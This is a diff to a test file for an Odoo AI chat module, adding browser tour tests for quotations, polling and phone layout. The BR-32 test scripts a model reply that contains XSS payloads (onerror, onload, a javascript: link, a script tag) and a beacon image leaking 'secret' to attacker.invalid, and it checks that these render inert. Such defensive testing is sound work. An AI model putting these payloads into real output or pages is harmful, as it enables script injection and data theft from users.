@@ -1,11 +1,16 @@
 """The chat in a real browser (issue 11 points 1, 2 and 5): Odoo's tours
 in headless Chromium drive static/src/js/chat_widget.js against the real
 routes and the scripted LLM server (static/tests/tours/chat_tour.js)."""
-import re
+import threading
+import time
 
+from odoo import SUPERUSER_ID, api
 from odoo.tests import HttpCase, new_test_user, tagged
+from odoo.tools import config
 
-from .common import AgenticSetupMixin, tool_call
+from .common import AgenticSetupMixin, observation_records, tool_call
+
+CRON = "agentic_ai.ir_cron_process_pending_tasks"
 
 QUOTE = "Create a quotation for Azure Interior: 3 Office Chair Black and 1 Large Cabinet"
 
@@ -27,10 +32,12 @@ class TestChatTour(AgenticSetupMixin, HttpCase):
     def test_salesperson_streams_a_quotation_with_its_tool_steps(self):
         words = " ".join(f"w{i}" for i in range(25))
 
+        logo = f"http://localhost:{config['http_port']}/web/static/img/logo.png"  # another origin than 127.0.0.1
+
         def answer(request):
-            result = request["messages"][-1]["content"]
-            name = re.search(r"S\d{5}", result)
-            return {"content": f"Your quotation is ready: {name and name.group(0)}. {words}", "chunk_delay": 0.12}
+            order = next(row for row in observation_records(request) if str(row.get("name", "")).startswith("S"))
+            link = f"[{order['name']}](/odoo/sale.order/{order['id']})"
+            return {"content": f"Your quotation is ready: {link}. {words}\n\n![logo]({logo})", "chunk_delay": 0.12}
 
         self.script(tool_call("create_quotation", {"partner": "Azure Interior", "lines": [
             {"product": "Office Chair Black", "quantity": 3}, {"product": "Large Cabinet", "quantity": 1}]},
@@ -88,3 +95,107 @@ class TestChatTour(AgenticSetupMixin, HttpCase):
         self.assertEqual((thread.name, thread.active), ("new name", False))
         answer = self.make_jsonrpc_request("/agentic_ai/thread/messages", {"thread_id": thread.id})
         self.assertEqual(answer["thread"]["name"], "new name", "an archived conversation can still be opened")
+
+    def test_BR_32_model_output_renders_inert(self):
+        """Case BR-32: the model's answer carries script payloads and a
+        beacon image next to normal Markdown; the tour checks that no
+        payload ran, no request left for attacker.invalid, the raw HTML is
+        text and the table and code block render."""
+        self.script({"content": (
+            "Here is the report.\n\n"
+            '<img src=x onerror="window.__pwned=1">\n\n'
+            '<svg onload="window.__pwned=2">\n\n'
+            "[open](javascript:window.__pwned=3)\n\n"
+            "![s](http://attacker.invalid/p.png?d=secret)\n\n"
+            "<script>window.__pwned=4</script>\n\n"
+            "| Product | Quantity |\n|---|---|\n| Office Chair Black | 3 |\n\n"
+            "```python\nprint('quotation ready')\n```\n")})
+        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_br32", login="chat_sales",
+                        timeout=120)
+        reply = self.thread().message_ids.filtered(lambda m: m.role == "assistant")
+        self.assertEqual(len(reply), 1)
+        self.assertIn("attacker.invalid", str(reply.content_html), "the image is a placeholder naming its host")
+
+    def test_polling_when_streaming_is_off(self):
+        """With Settings' "Follow runs by polling" on (a proxy that buffers),
+        the chat queues the message (chat/send_async), shows it queued,
+        and polls; once the processor ran, the reply is shown once. Then a
+        second message is run by the processor while the page polls: every
+        row appears once (the client drops ids it already shows)."""
+        self.authenticate("chat_sales", "chat_sales")
+        agents = self.make_jsonrpc_request("/agentic_ai/agents", {})
+        self.assertTrue(agents and all(agent["streaming"] for agent in agents), "streaming is on by default")
+        self.env["ir.config_parameter"].sudo().set_param("agentic_ai.chat_polling", "True")
+        agents = self.make_jsonrpc_request("/agentic_ai/agents", {})
+        self.assertFalse(any(agent["streaming"] for agent in agents), "the client is told to poll")
+        self.script({"content": "processed in the background"})
+        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_polling_send", login="chat_sales",
+                        timeout=120)
+        thread = self.thread()
+        self.assertEqual((thread.state, thread.pending_message), ("queued", "summarise my week in the background"))
+        self.assertFalse(self.scenario.chat_requests(), "nothing streamed: the message waits in the queue")
+        self.env.ref(CRON).method_direct_trigger()  # HttpCase: the registry is in test mode already
+        self.assertEqual(thread.state, "completed")
+        # Then a second message, polled live while the processor runs it.
+        self.script({"content": "the week before was quiet"})
+        join = self.run_processor_when_queued(thread.id, "and the week before?")
+        try:
+            self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_polling_receive",
+                            login="chat_sales", timeout=120)
+        finally:
+            join()
+        thread.invalidate_recordset()
+        self.assertEqual(thread.message_ids.filtered(lambda m: m.role in ("user", "assistant")).mapped("content"),
+                         ["summarise my week in the background", "processed in the background",
+                          "and the week before?", "the week before was quiet"])
+
+    def run_processor_when_queued(self, thread_id, message):
+        """Start a thread that runs the queue processor once ``message``
+        waits on ``thread_id``, as the cron would while the page polls; the
+        test's cursor is shared under Odoo's registry test lock, which the
+        tour releases. Returns a function that joins it and re-raises."""
+        errors = []
+
+        def work():
+            threading.current_thread().testing = True
+            try:
+                deadline = time.monotonic() + 90
+                while time.monotonic() < deadline:
+                    with self.registry.cursor() as cr:
+                        env = api.Environment(cr, SUPERUSER_ID, {})
+                        queued = env["agentic.ai.thread"].search_count([
+                            ("id", "=", thread_id), ("state", "=", "queued"), ("pending_message", "=", message)])
+                        if queued:
+                            env.ref(CRON).method_direct_trigger()
+                            return
+                    time.sleep(0.2)
+                errors.append(AssertionError(f"{message!r} was never queued"))
+            except Exception as exc:  # noqa: BLE001 - re-raised in the test's thread by join()
+                errors.append(exc)
+
+        worker = threading.Thread(target=work, name="agentic-ai-test-processor")
+        worker.start()
+
+        def join():
+            worker.join(120)
+            if errors:
+                raise errors[0]
+        return join
+
+
+@tagged("post_install", "-at_install")
+class TestChatTourPhone(AgenticSetupMixin, HttpCase):
+    """The chat at a phone's width (issue 11 point 1)."""
+
+    browser_size = "390x844"
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.setup_agentic()
+        new_test_user(cls.env, "chat_phone", groups="base.group_user,agentic_ai.group_agentic_ai_user")
+
+    def test_phone_width_sidebar_folds_and_a_message_gets_its_reply(self):
+        self.script({"content": "Hello from the desk: your week has 3 quotations."})
+        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_phone", login="chat_phone",
+                        timeout=120)
